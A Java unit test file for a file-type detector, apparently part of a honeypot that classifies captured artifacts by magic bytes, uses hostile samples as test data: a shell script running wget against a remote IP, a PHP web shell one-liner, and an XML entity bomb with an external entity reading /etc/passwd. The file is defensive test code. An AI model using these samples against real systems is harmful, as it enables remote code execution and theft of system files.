package org.decnet.server.artifact;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class FileTypesTest {
  @TempDir private Path folder;

  private static String of(String text) throws IOException {
    return FileTypes.of(text.getBytes(StandardCharsets.ISO_8859_1));
  }

  @ParameterizedTest
  @CsvSource({
    "7f454c4602010100000000000000000002003e0001000000, application/x-executable",
    "7f454c4602010100000000000000000003003e0001000000, application/x-sharedlib",
    "4d5a900003000000040000, application/x-msdownload",
    "cafebabe00000034, application/java-vm",
    "255044462d312e37, application/pdf",
    "89504e470d0a1a0a, image/png",
    "52617221 1a0700, application/x-rar-compressed",
    "377abcaf271c, application/x-7z-compressed",
    "fd377a585a00, application/x-xz",
    "00, application/octet-stream"
  })
  void binariesAreToldByTheirFirstBytes(String hex, String type) throws IOException {
    assertThat(FileTypes.of(HexFormat.of().parseHex(hex.replace(" ", "")))).isEqualTo(type);
  }

  @Test
  void scriptsAndTextAreToldApart() throws IOException {
    assertThat(of("#!/bin/sh\nwget http://203.0.113.5/x\n")).isEqualTo("application/x-sh");
    assertThat(of("#!/usr/bin/perl\nprint 1;\n")).isEqualTo("text/x-perl");
    assertThat(of("ssh-rsa AAAA someone\n")).isEqualTo("text/plain");
    assertThat(of("<?php system($_GET[0]); ?>")).isEqualTo("text/x-php");
  }

  @Test
  void archivesAreToldByTheirFirstBytes() throws IOException {
    ByteArrayOutputStream zip = new ByteArrayOutputStream();
    try (ZipOutputStream out = new ZipOutputStream(zip)) {
      out.putNextEntry(new ZipEntry("a"));
    }
    assertThat(FileTypes.of(zip.toByteArray())).isEqualTo("application/zip");
    ByteArrayOutputStream gzip = new ByteArrayOutputStream();
    new GZIPOutputStream(gzip).close();
    assertThat(FileTypes.of(gzip.toByteArray())).isEqualTo("application/gzip");
  }

  @Test
  void aFileIsReadNoFurtherThanItsHead() throws IOException {
    Path file = folder.resolve("x");
    byte[] large = new byte[FileTypes.HEAD + 100];
    large[0] = 'x';
    System.arraycopy("%PDF-1.7".getBytes(StandardCharsets.US_ASCII), 0, large, FileTypes.HEAD, 8);
    Files.write(file, large);
    assertThat(FileTypes.of(file)).isEqualTo("application/octet-stream");
  }

  /** A document that names others and grows without end when it is read is only looked at. */
  @Test
  void hostileXmlIsHarmless() throws IOException {
    String bomb =
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"x\"><!ENTITY c \"&b;&b;&b;\">"
            + "<!ENTITY d SYSTEM \"file:///etc/passwd\">]><a>&c;&d;</a>";
    assertThat(of(bomb)).isEqualTo("application/xml");
  }
}
